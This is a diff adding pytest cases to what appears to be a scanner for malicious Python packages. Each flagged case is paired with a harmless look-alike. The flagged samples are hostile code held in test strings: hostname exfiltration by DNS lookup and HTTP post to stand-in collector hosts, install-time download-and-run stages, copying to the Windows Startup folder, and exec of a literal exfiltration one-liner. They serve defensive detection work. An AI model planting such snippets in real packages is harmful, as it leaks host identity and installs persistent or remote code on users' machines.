@@ -358,3 +358,164 @@ def test_secrets_from_a_helper_defined_later_are_still_labelled() -> None:
         send()
     """
     assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+# -- command lines that reach the network --------------------------------------------------------
+
+
+def test_dns_lookup_of_the_hostname_on_import_is_exfiltration() -> None:
+    src = """
+        import os, socket
+
+        os.system("nslookup " + socket.gethostname() + ".dns.collector.example.net")
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+def test_curl_run_by_a_function_to_fetch_a_file_is_not_intent() -> None:
+    src = """
+        import subprocess
+
+        def fetch(url, dest):
+            subprocess.run(["curl", "-sSfL", url, "-o", dest], check=True)
+            return dest
+    """
+    result = scan({"demo/fetch.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_pip_install_on_import_is_a_second_stage() -> None:
+    src = """
+        import subprocess, sys
+
+        subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "colourful-logs"])
+    """
+    assert "intent.download-execute" in rules(scan({"demo/__init__.py": src}), "high")
+
+
+def test_pip_install_offered_by_a_command_is_not_flagged() -> None:
+    src = """
+        import subprocess, sys
+
+        def install_extras():
+            subprocess.check_call([sys.executable, "-m", "pip", "install", "demo[all]"])
+    """
+    result = scan({"demo/cli.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_wget_download_then_startfile_is_download_execute() -> None:
+    src = """
+        import os, tempfile
+        import wget
+
+        path = wget.download("https://cdn.example.net/update.bin", tempfile.gettempdir())
+        os.startfile(path)
+    """
+    assert "intent.download-execute" in rules(scan({"demo/__init__.py": src}), "high")
+
+
+def test_wget_download_of_data_is_not_download_execute() -> None:
+    src = """
+        import wget
+
+        def fetch_model(dest):
+            return wget.download("https://models.example.org/small.onnx", dest)
+    """
+    assert "intent.download-execute" not in rules(scan({"demo/models.py": src}))
+
+
+def test_host_identity_sent_to_a_fixed_host_when_called_is_suspicious() -> None:
+    src = """
+        import getpass, socket
+        import requests
+
+        def report():
+            requests.post("https://stats.collector-host.net/r",
+                          json={"h": socket.gethostname(), "u": getpass.getuser()})
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/stats.py": src}), "high")
+
+
+def test_host_identity_sent_to_a_url_the_user_gives_is_not_flagged() -> None:
+    src = """
+        import socket
+        import requests
+
+        def register(server_url):
+            requests.post(server_url + "/agents", json={"name": socket.gethostname()})
+    """
+    assert "intent.exfiltration" not in rules(scan({"demo/agent.py": src}))
+
+
+# -- persistence, dropped scripts and code kept in strings -----------------------------------------
+
+
+def test_copying_into_the_startup_folder_on_import_is_persistence() -> None:
+    src = r"""
+        import os, shutil, sys
+
+        target = os.path.join(os.getenv("APPDATA"), "Microsoft\\Windows\\Start Menu\\Programs\\Startup")
+        shutil.copy(sys.argv[0], target)
+    """
+    assert "intent.persistence" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+def test_a_cli_adding_completion_to_bashrc_on_request_is_not_flagged() -> None:
+    src = """
+        import os
+
+        def install_completion():
+            with open(os.path.expanduser("~/.bashrc"), "a") as rc:
+                rc.write('eval "$(_DEMO_COMPLETE=bash_source demo)"\\n')
+    """
+    result = scan({"demo/cli.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+    assert "intent.persistence" in rules(result)  # worth knowing, at a low weight
+
+
+def test_script_written_then_run_at_install_is_flagged() -> None:
+    src = """
+        import os, subprocess, sys, tempfile
+        from setuptools import setup
+
+        stage = os.path.join(tempfile.gettempdir(), "stage.py")
+        with open(stage, "w") as f:
+            f.write("import urllib.request\\nurllib.request.urlopen('https://c.example.net/x')\\n")
+        subprocess.Popen([sys.executable, stage])
+        setup(name="demo")
+    """
+    result = scan({"setup.py": src})
+    assert "intent.write-execute" in rules(result, "high")
+    assert result.verdict in FLAGGED
+
+
+def test_config_written_then_git_run_is_not_write_execute() -> None:
+    src = """
+        import subprocess
+
+        def init_repo(path):
+            with open(path + "/.gitignore", "w") as f:
+                f.write("build/\\ndist/\\n*.egg-info/\\n__pycache__/\\n")
+            subprocess.run(["git", "init", path], check=True)
+    """
+    assert "intent.write-execute" not in rules(scan({"demo/repo.py": src}))
+
+
+def test_literal_code_given_to_exec_is_analysed() -> None:
+    src = """
+        exec("import requests,socket;requests.post('https://c.collector-host.net/h', data=socket.gethostname())")
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+def test_literal_compat_code_given_to_exec_stays_quiet() -> None:
+    src = """
+        import sys
+        if sys.version_info < (3,):
+            exec("def reraise(tp, value, tb=None):\\n    raise tp, value, tb\\n")
+        else:
+            exec("def reraise(tp, value, tb=None):\\n    raise value.with_traceback(tb)\\n")
+    """
+    result = scan({"demo/compat.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
